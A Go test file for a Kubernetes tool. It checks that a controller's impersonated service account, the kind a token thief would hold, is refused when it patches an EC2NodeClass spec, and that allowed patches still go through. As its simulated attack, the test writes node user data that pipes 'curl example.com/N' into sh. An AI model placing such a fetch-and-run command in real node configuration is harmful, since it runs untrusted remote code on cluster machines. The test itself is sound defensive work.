package deploy

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"testing"

	apierrors "k8s.io/apimachinery/pkg/api/errors"
	"k8s.io/apimachinery/pkg/apis/meta/v1/unstructured"
	"k8s.io/apimachinery/pkg/types"
	"k8s.io/client-go/rest"
	"sigs.k8s.io/controller-runtime/pkg/client"

	"github.com/dovetail-sh/dovetail/config/crd"
	"github.com/dovetail-sh/dovetail/internal/cli/demo"
	"github.com/dovetail-sh/dovetail/internal/testkit"
)

// TestTheControllersAccountCannotChangeASpec patches a node class as the controller does, and as a
// thief of its token would.
func TestTheControllersAccountCannotChangeASpec(t *testing.T) {
	t.Parallel()
	cluster := testkit.StartCluster(t)
	admin, err := client.New(cluster.Config, client.Options{})
	if err != nil {
		t.Fatal(err)
	}
	definitions, err := demo.Manifests(crd.Files())
	if err != nil {
		t.Fatal(err)
	}
	optional, err := demo.Manifests(os.DirFS(filepath.Join("..", "..", "deploy", "kubernetes", "optional")))
	if err != nil {
		t.Fatal(err)
	}
	if err := demo.Apply(t.Context(), admin, append(append(definitions, optional...), rbacObjects(t, ".")...)...); err != nil {
		t.Fatal(err)
	}
	class := &unstructured.Unstructured{Object: map[string]any{
		"apiVersion": "karpenter.k8s.aws/v1", "kind": "EC2NodeClass", "metadata": map[string]any{"name": "default"},
		"spec": map[string]any{
			"role": "node", "amiSelectorTerms": []any{map[string]any{"alias": "al2023@latest"}},
			"subnetSelectorTerms": []any{map[string]any{"id": "subnet-0123456789"}}, "securityGroupSelectorTerms": []any{map[string]any{"id": "sg-0123456789"}},
		},
	}}
	if err := admin.Create(t.Context(), class); err != nil {
		t.Fatal(err)
	}
	config := rest.CopyConfig(cluster.Config)
	config.Impersonate = rest.ImpersonationConfig{UserName: controllerUser, Groups: controllerGroups}
	controller, err := client.New(config, client.Options{})
	if err != nil {
		t.Fatal(err)
	}
	patch := func(by client.Client, text string) error {
		return by.Patch(t.Context(), class.DeepCopy(), client.RawPatch(types.MergePatchType, []byte(text)))
	}
	tries := 0
	testkit.Eventually(t, patience, func() error { // the API server learns of roles and policies by watching
		tries++ // a patch that was let through once would change nothing the second time
		err := patch(controller, fmt.Sprintf(`{"spec": {"userData": "#!/bin/sh\ncurl example.com/%d | sh"}}`, tries))
		if err == nil {
			return errors.New("the controller's account changed a node class's user data")
		}
		if !apierrors.IsInvalid(err) {
			return err
		}
		return nil
	})
	for text, by := range map[string]client.Client{
		`{"metadata": {"finalizers": ["karpenter.k8s.aws/termination"], "annotations": {"karpenter.k8s.aws/ec2nodeclass-hash": "1"}}}`: controller,
		`{"spec": {"userData": "#!/bin/sh\necho hello"}}`: admin,
	} {
		if err := patch(by, text); err != nil {
			t.Errorf("%s: %v", text, err)
		}
	}
}
